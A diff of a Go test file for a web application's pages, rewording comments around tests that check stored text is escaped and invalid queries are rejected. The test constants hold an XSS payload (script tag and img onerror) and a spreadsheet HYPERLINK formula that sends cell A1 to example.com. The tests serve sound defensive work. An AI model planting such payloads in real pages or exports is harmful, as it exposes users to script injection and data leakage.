@@ -14,14 +14,14 @@ import (
 	"stockroom/store/storetest"
 )
 
-// evil is text that would run a script in a browser if it were not escaped.
-// formula is text that a spreadsheet would calculate.
+// evil is a text that would run a script in a browser if it were not escaped. formula is
+// a text that a spreadsheet would calculate.
 const (
 	evil    = `"><script>alert(1)</script><img src=x onerror=alert(1)>'`
 	formula = `=HYPERLINK("http://example.com?"&A1)`
 )
 
-// hostile returns entities that have the text in every text attribute.
+// hostile returns entities that contain the text in every text attribute.
 func hostile(text string) []store.Entity {
 	address := store.Address{Country: text, County: text, City: text, Street: text, Number: text, ZipCode: text}
 	day := storetest.Now.AddDate(0, 0, -1)
@@ -75,8 +75,8 @@ func TestPages_EscapeStoredText(t *testing.T) {
 	}
 }
 
-// executable returns the first tag of a page that would run a script or load an
-// image: a foreign script, an image, an event handler or a javascript: URL.
+// executable returns the first tag of a page that could run a script or load a foreign
+// resource, such as an event handler, a javascript: URL or an image.
 func executable(page string) string {
 	z := html.NewTokenizer(strings.NewReader(page))
 	for {
@@ -141,7 +141,7 @@ func TestPages_RejectInvalidQueries(t *testing.T) {
 	for _, tt := range []struct {
 		path   string
 		status int
-		want   string // on the page, such as the input
+		want   string // text that the page must contain, such as the input
 	}{
 		{"/orders?from=soon&to=2026-11-01", 422, `value="soon"`},
 		{"/orders?from=soon&to=2026-11-01", 422, `value="2026-11-01"`},
